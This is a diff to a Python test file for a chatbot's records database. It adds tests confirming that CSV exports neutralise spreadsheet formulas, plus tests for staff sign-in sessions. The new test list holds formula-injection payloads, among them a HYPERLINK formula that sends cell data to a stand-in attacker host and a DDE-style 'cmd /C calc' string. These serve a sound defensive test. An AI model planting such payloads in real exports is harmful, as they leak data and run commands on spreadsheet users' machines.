@@ -1,8 +1,9 @@
 """The records in SQLite and in PostgreSQL: completed checks, unanswered questions and requests for a person,
-the migration from schema version 1, hashed sender ids, retention, forgetting one user, exports and staff's
-command line."""
+the migration from schema version 1, hashed sender ids, retention, forgetting one user, exports (no cell a
+spreadsheet would run), staff's sign-in sessions and staff's command line."""
 import csv
 import datetime as dt
+import io
 import json
 import subprocess
 import sys
@@ -15,12 +16,13 @@ from bot.rules.engine import assess
 from bot.rules.profile import make_profile
 from records.checks import record_check, report
 from records.cli import main as records_main
-from records.export import check_rows, handoff_rows, unanswered_rows
+from records.export import EXPORTS, check_rows, handoff_rows, unanswered_rows, write_csv
 from records.handoffs import record_handoff
 from records.identity import HASH_KEY_VARIABLE, KEY_FILE_NAME, local_key, user_hash
 from records.retention import forget, purge, retention
+from records.sessions import SESSION_LIFETIME, close_session, open_session, session_is_open
 from records.store import (PERSONAL_TABLES, SCHEMA_VERSION, RecordsError, checks, connect, handoffs, schema_version,
-                           unanswered)
+                           staff_sessions, unanswered)
 from records.unanswered import record_unanswered
 from tests.services import postgres_database
 
@@ -134,13 +136,14 @@ def test_version_1_is_migrated_and_keeps_its_rows(database_url):
     version_1_database(database_url)
     engine = connect(database_url)
     with engine.connect() as connection:
-        assert connection.execute(select(schema_version.c.version)).scalars().all() == [SCHEMA_VERSION] == [2]
+        assert connection.execute(select(schema_version.c.version)).scalars().all() == [SCHEMA_VERSION] == [3]
         old_rows = connection.execute(select(checks).order_by(checks.c.id)).all()
         tables = set(sqlalchemy.inspect(connection).get_table_names())
         indexes = {index["name"] for index in sqlalchemy.inspect(connection).get_indexes(checks.name)}
     assert [(row.facts, row.budget_nok, row.user_hash) for row in old_rows] == [
         ({"companies": 1}, 100000, None), ({"companies": 2}, 200000, None)]
-    assert {unanswered.name, handoffs.name} <= tables and "ix_klyngebot_checks_user_hash" in indexes
+    assert {unanswered.name, handoffs.name, staff_sessions.name} <= tables
+    assert "ix_klyngebot_checks_user_hash" in indexes
     record_check(engine, assessed(PROFILES[0]), "rest", "slack:U1")  # and the new schema takes new rows
     record_unanswered(engine, "hva med skattefunn?", "nb", "slack", "slack:U1")
     assert report(connect(database_url)).checks == 3  # migrating again changes nothing
@@ -293,6 +296,55 @@ def test_a_bad_retention_is_refused(value):
         retention({"KLYNGEBOT_RETENTION_DAYS": value})
 
 
+# --- exports a spreadsheet opens as text ---------------------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?q=\"&A1,\"klikk\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+47 22 00 00 00",
+            "-2+3", "\tTAB=1", "\rCR=1"]
+
+
+def test_every_export_makes_a_cell_that_begins_like_a_formula_text(tmp_path, records_cli):
+    url = f"sqlite:///{tmp_path / 'checks.db'}"
+    engine = connect(url)
+    for text in FORMULAS:
+        record_unanswered(engine, text, "nb", "webchat", "web-1")
+        record_handoff(engine, text, "kari@example.no", "nb", "webchat", "web-1", text, consent=True)
+    record_check(engine, assessed(PROFILES[0]), "rest", "someone")
+    files = {}
+    for kind in EXPORTS:
+        code, files[kind], _ = records_cli(["export", kind, "--csv", "-"], url)
+        assert code == 0
+        output = io.StringIO()
+        write_csv(EXPORTS[kind](engine), output)
+        assert output.getvalue() == files[kind]  # the staff page's download is written the same way
+    written = {kind: list(csv.DictReader(io.StringIO(text, newline=""))) for kind, text in files.items()}
+    neutral = ["'" + text for text in FORMULAS]
+    assert [row["text"] for row in written["unanswered"]] == neutral
+    assert [(row["name"], row["topic"]) for row in written["handoffs"]] == list(zip(neutral, neutral))
+    assert [row["email"] for row in written["handoffs"]] == ["kari@example.no"] * len(FORMULAS)  # the rest as kept
+    assert written["checks"][0]["budget_nok"] == "500000.0" and json.loads(written["checks"][0]["facts"]) == PROFILES[0]
+
+
+# --- staff's sign-in sessions --------------------------------------------------------------------------------
+
+def test_a_session_is_open_until_it_is_closed_or_expires(database_url):
+    engine = connect(database_url)
+    now = dt.datetime(2026, 2, 3, 9, 0, tzinfo=dt.timezone.utc)
+    first, second = open_session(engine, now), open_session(engine, now)
+    assert first != second and len(first) >= 43  # 256 random bits
+    assert session_is_open(engine, first, now) and session_is_open(engine, second, now)
+    assert not session_is_open(engine, first + "x", now) and not session_is_open(engine, "", now)
+    close_session(engine, first)
+    assert not session_is_open(engine, first, now) and session_is_open(engine, second, now)
+    ends = now + SESSION_LIFETIME
+    assert session_is_open(engine, second, ends - dt.timedelta(seconds=1)) and not session_is_open(engine, second, ends)
+    with engine.connect() as connection:
+        stored = connection.execute(select(staff_sessions)).all()
+    assert len(stored) == 1 and second not in json.dumps([list(row) for row in stored], default=str)
+    open_session(engine, ends)  # a sign-in clears the sessions that have ended
+    with engine.connect() as connection:
+        assert connection.execute(select(sqlalchemy.func.count()).select_from(staff_sessions)).scalar() == 1
+
+
 # --- staff's command line ---------------------------------------------------------------------------------------
 
 def run_cli(arguments, url, **variables):
@@ -354,7 +406,7 @@ def test_the_export_command_writes_one_row_per_check(tmp_path, records_cli):
     assert "innovasjonsrammen:half_are_smes" in rows[0]["failing_rules"].split()
     assert "user_hash" not in rows[0]
     code, out, _ = records_cli(["export", "unanswered", "--csv", "-"], url)
-    assert code == 0 and out == "created_at,language,channel,text\n"
+    assert code == 0 and out == "created_at,language,channel,text\r\n"
 
 
 @pytest.mark.parametrize("arguments, variables, expected", [
